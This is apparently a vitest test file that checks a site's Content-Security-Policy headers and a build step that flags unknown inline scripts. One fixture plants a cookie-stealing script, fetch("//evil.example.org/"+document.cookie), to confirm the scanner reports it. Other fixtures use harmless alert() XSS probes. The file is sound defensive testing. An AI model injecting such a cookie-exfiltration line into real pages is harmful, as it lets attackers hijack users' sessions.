import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { headersFile } from "../../src/integrations/headers-file.ts";
import {
  inlineScripts,
  reviewInlineScripts,
  scriptHash,
  unknownScriptsMessage,
} from "../../src/integrations/inline-scripts.ts";

// What the file says; how Workers static assets read it and what a browser then gets is
// tests/integration/security-headers-served.test.ts.
describe("the _headers file", () => {
  it("allows inline scripts by hash only, never 'unsafe-inline'", () => {
    const text = headersFile({ scriptHashes: ["'sha256-b'", "'sha256-a'"], tileOrigin: null });
    const csp = /Content-Security-Policy: (.*)/.exec(text)?.[1] ?? "";
    expect(csp).toContain("script-src 'self' 'sha256-a' 'sha256-b';");
    expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);
    expect(csp).toContain("frame-ancestors 'none'");
    for (const header of [
      "X-Content-Type-Options: nosniff",
      "Referrer-Policy:",
      "Permissions-Policy:",
      "Strict-Transport-Security: max-age=31536000; includeSubDomains",
    ]) {
      expect(text).toContain(header);
    }
    expect(text).toMatch(/\/_astro\/\*\n {2}! Cache-Control\n {2}Cache-Control: public, max-age=31536000, immutable/);
  });

  it("allows the configured tile server as an image source", () => {
    expect(headersFile({ scriptHashes: [], tileOrigin: "https://tile.example.org" })).toContain(
      "img-src 'self' data: https://tile.example.org;",
    );
  });
});

describe("the inline scripts of the built pages", () => {
  /** A build folder with these pages. */
  function built(pages: Record<string, string>): string {
    const root = mkdtempSync(join(tmpdir(), "headers-"));
    for (const [path, html] of Object.entries(pages)) {
      mkdirSync(dirname(join(root, path)), { recursive: true });
      writeFileSync(join(root, path), html);
    }
    return root;
  }
  const TABLE = "class t extends HTMLElement{}customElements.define(`mirror-table`,t)";
  const known = new Set([TABLE]);

  it("hashes the known scripts the pages carry, once each, and skips external and empty ones", () => {
    const root = built({
      "index.html": `<script type="module">${TABLE}</script><script type="module" src="/_astro/map.js"></script>`,
      "countries/de/index.html": `<script type="module">${TABLE}</script><script>\n</script>`,
    });
    const review = reviewInlineScripts(inlineScripts(root), known);
    expect(review).toEqual({ scriptHashes: [scriptHash(TABLE)], unknown: [] });
    // sha256("alert(1)") in base64, as a browser computes it
    expect(scriptHash("alert(1)")).toBe("'sha256-bhHHL3z2vDgxUt0W3dWQOrprscmda2Y5pLsLg4GF+pI='");
  });

  it("reports a page with an extra injected inline script, and never hashes it", () => {
    const root = built({
      "index.html": `<script type="module">${TABLE}</script>`,
      "mirrors/evil.example.org/index.html": `<script type="module">${TABLE}</script><p>Sponsor</p><SCRIPT data-src="x" >fetch("//evil.example.org/"+document.cookie)</script >`,
    });
    const { scriptHashes, unknown } = reviewInlineScripts(inlineScripts(root), known);
    expect(scriptHashes).toEqual([scriptHash(TABLE)]);
    expect(unknown).toEqual([
      { page: "mirrors/evil.example.org/index.html", text: 'fetch("//evil.example.org/"+document.cookie)' },
    ]);
    const message = unknownScriptsMessage(unknown);
    expect(message).toContain("1 inline script(s) in the built pages were not written by a component of this site");
    expect(message).toContain(
      `mirrors/evil.example.org/index.html: ${scriptHash('fetch("//evil.example.org/"+document.cookie)')}`,
    );
    expect(headersFile({ scriptHashes, tileOrigin: null })).not.toContain(
      scriptHash('fetch("//evil.example.org/"+document.cookie)'),
    );
  });

  it("takes `<script>` written inside an attribute value for the text it is, not for a script", () => {
    const root = built({
      "mirrors/hostile.example/index.html": `<script type="module">${TABLE}</script><a title="Mirror<script>alert('rlo')</script>" href="/">x</a><p>&lt;script&gt;alert(2)&lt;/script&gt;</p>`,
    });
    expect(reviewInlineScripts(inlineScripts(root, known), known)).toEqual({
      scriptHashes: [scriptHash(TABLE)],
      unknown: [],
    });
    // Behind the attribute, a real script is still found by the parser.
    const real = built({ "index.html": `<a title="<script>x()</script>">x</a><script>y()</script>` });
    expect(reviewInlineScripts(inlineScripts(real, known), known).unknown).toEqual([
      { page: "index.html", text: "y()" },
    ]);
  });

  it("knows a script only by its exact text", () => {
    const root = built({ "index.html": `<script type="module">${TABLE};alert(1)</script>` });
    expect(reviewInlineScripts(inlineScripts(root), known).unknown).toHaveLength(1);
  });

  it("lists ten pages and counts the rest", () => {
    const unknown = Array.from({ length: 12 }, (_, i) => ({ page: `p${i}/index.html`, text: "x()" }));
    const message = unknownScriptsMessage(unknown);
    expect(message).toContain("p9/index.html");
    expect(message).not.toContain("p10/index.html");
    expect(message).toContain("… and 2 more");
  });
});
